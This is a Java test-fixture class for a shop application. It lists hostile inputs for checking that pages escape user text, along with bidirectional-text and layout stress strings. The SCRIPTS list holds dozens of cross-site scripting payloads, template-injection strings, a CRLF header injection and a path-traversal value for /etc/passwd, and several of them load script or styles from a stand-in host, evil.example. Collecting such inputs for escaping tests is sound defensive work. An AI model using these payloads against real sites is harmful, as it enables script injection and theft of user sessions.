package iq.sendy.shop;

import java.util.ArrayList;
import java.util.List;

/** Texts that strangers and merchants send to make a page do something else than show them. */
final class HostileText {

    /** Each would call {@code hit()} if it ran, or change what stands around it if it were not escaped. */
    static final List<String> SCRIPTS = List.of(
            "<script>hit()</script>",
            "<ScRiPt>hit()</sCrIpT>",
            "<script src=//evil.example/x.js></script>",
            "<script/x>hit()</script>",
            "<<script>hit();//<</script>",
            "<scr<script>ipt>hit()</scr</script>ipt>",
            "\"><script>hit()</script>",
            "'><script>hit()</script>",
            "</script><script>hit()</script>",
            "</title><script>hit()</script>",
            "</textarea><script>hit()</script>",
            "</style><script>hit()</script>",
            "</select></form><script>hit()</script>",
            "<img src=x onerror=hit()>",
            "<img src=\"x\" onerror=\"hit()\">",
            "<img/src=x/onerror=hit()>",
            "<img src=x onerror=hit() //",
            "<img src=x:x onerror\n=hit()>",
            "<img \"\"\"><script>hit()</script>\">",
            "<body onload=hit()>",
            "<input autofocus onfocus=hit()>",
            "<details open ontoggle=hit()>x</details>",
            "<video><source onerror=hit()></video>",
            "<audio src=x onerror=hit()>",
            "<marquee onstart=hit()>x</marquee>",
            "<p onmouseover=hit() onclick=hit() class=page id=content>x</p>",
            "\" onfocus=hit() autofocus x=\"",
            "' onfocus=hit() autofocus x='",
            "` onfocus=hit() autofocus x=`",
            "x onmouseover=hit()",
            "<a href=javascript:hit()>x</a>",
            "<a href=\"JaVaScRiPt:hit()\">x</a>",
            "<a href=\"java&#x09;script:hit()\">x</a>",
            "<a href=\"java\nscript:hit()\">x</a>",
            "<a href=\"&#106;avascript&colon;hit()\">x</a>",
            "<a href=\" &#14; javascript:hit()\">x</a>",
            "<a href=\"data:text/html,<script>hit()</script>\">x</a>",
            "<a href=\"vbscript:hit()\">x</a>",
            "javascript:hit()",
            "javascript:/*--></title></style></textarea></script><svg/onload=hit()>",
            "<form action=javascript:hit()><button>x</button></form>",
            "<button formaction=javascript:hit()>x</button>",
            "<svg onload=hit()>",
            "<svg><script>hit()</script></svg>",
            "<svg><a xlink:href=\"javascript:hit()\"><text>x</text></a></svg>",
            "<svg><animate onbegin=hit() attributeName=x></svg>",
            "<svg><style><img src=x onerror=hit()></style></svg>",
            "<svg><foreignObject><iframe srcdoc=\"<script>hit()</script>\"></iframe></foreignObject></svg>",
            "<math><mtext></p><style><!--</style><img title=\"--><img src=x onerror=hit()>\"></math>",
            "<math href=javascript:hit()>x</math>",
            "<noscript><p title=\"</noscript><img src=x onerror=hit()>\"></noscript>",
            "<template><script>hit()</script></template>",
            "<iframe src=javascript:hit()></iframe>",
            "<iframe srcdoc=\"<script>hit()</script>\"></iframe>",
            "<object data=javascript:hit()></object>",
            "<embed src=javascript:hit()>",
            "<base href=//evil.example/>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content=\"0;url=javascript:hit()\">",
            "<style>*{background:url(//evil.example/x)}@import '//evil.example/y';</style>",
            "<div style=\"position:fixed;inset:0;background:url(javascript:hit())\">x</div>",
            "<!--<img src=\"--><img src=x onerror=hit()>\">",
            "<![CDATA[<script>hit()</script>]]>",
            "<?xml version=\"1.0\"?><script>hit()</script>",
            "${7*7} #{7*7} *{7*7} @{/x} ~{x} [[${7*7}]] [(${7*7})] __${7*7}__",
            "<p th:text=\"${T(java.lang.Runtime).getRuntime()}\" th:onclick=hit()>x</p>",
            "<p hx-get=/x hx-on:load=hit() data-hx-get=/x>x</p>",
            "{{constructor.constructor('hit()')()}}",
            "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
            "\"};hit();//",
            "\u2028hit()\u2029</script>",
            "+ADw-script+AD4-hit()+ADw-/script+AD4-",
            "\uFF1Cscript\uFF1Ehit()\uFF1C/script\uFF1E",
            "<script\u200B>hit()</script\u202E>",
            "\u202E>tpircs/<)(tih>tpircs<\u202C",
            "%3Cscript%3Ehit()%3C/script%3E",
            "&lt;script&gt;hit()&lt;/script&gt; &#60;script&#62;",
            "\r\nSet-Cookie: hit=1\r\n\r\n<script>hit()</script>",
            "../../../etc/passwd%00.jpg",
            "=HYPERLINK(\"javascript:hit()\")");

    /** Each would turn round or push away what stands beside it. */
    static final List<String> DIRECTIONS = List.of(
            "\u202E١٢٣ abc\u202C",
            "\u202Eabc 25,000",
            "\u202Dabc ورد\u202C",
            "\u202Bورد red 12\u202C",
            "\u202Ared ورد 12\u202C",
            "\u2067ورد 12",
            "\u2066red 12",
            "\u2068red ورد",
            "\u2069\u2069\u2069red",
            "\u202C\u202C\u202Cورد",
            "\u2067".repeat(60) + "ورد",
            "\u200Fred\u200F 12",
            "\u200Eورد\u200E 12",
            "\u061Cred 12-34",
            "ورد 25,000 red ٢٥٬٠٠٠",
            "red 25,000 ورد ٢٥٬٠٠٠",
            "123 ورد 456",
            "١٢٣ red ٤٥٦",
            "۱۲۳ ورد ١٢٣ 123",
            "+964 770 123 4567",
            "(ورد) [red] {12}",
            "-12 ورد −34",
            "ورد/red/12",
            "A".repeat(180),
            "و".repeat(180),
            "WWWWWWWWWW".repeat(12) + "و".repeat(60),
            "https://example.com/" + "a".repeat(150),
            "نرم\u200Cافزار می\u200Cخواهم \u200D\u200Dورد",
            "ڕ ڵ ۆ ێ ە ڤ ھ 12 red",
            "و\u0651\u064E\u0651\u064E\u0651\u064Eرد " + "\u0301".repeat(20),
            "👩\u200D👩\u200D👧\u200D👦".repeat(20),
            "…………" + "ـ".repeat(150));

    private HostileText() {}

    /** All of them, as many to a text as one of that length holds. */
    static List<String> together(List<String> texts, int longest) {
        var together = new ArrayList<String>();
        var text = new StringBuilder();
        for (var each : texts) {
            if (text.length() + each.length() + 1 > longest) {
                together.add(text.toString());
                text.setLength(0);
            }
            text.append(text.isEmpty() ? "" : " ").append(each);
        }
        together.add(text.toString());
        return together;
    }
}
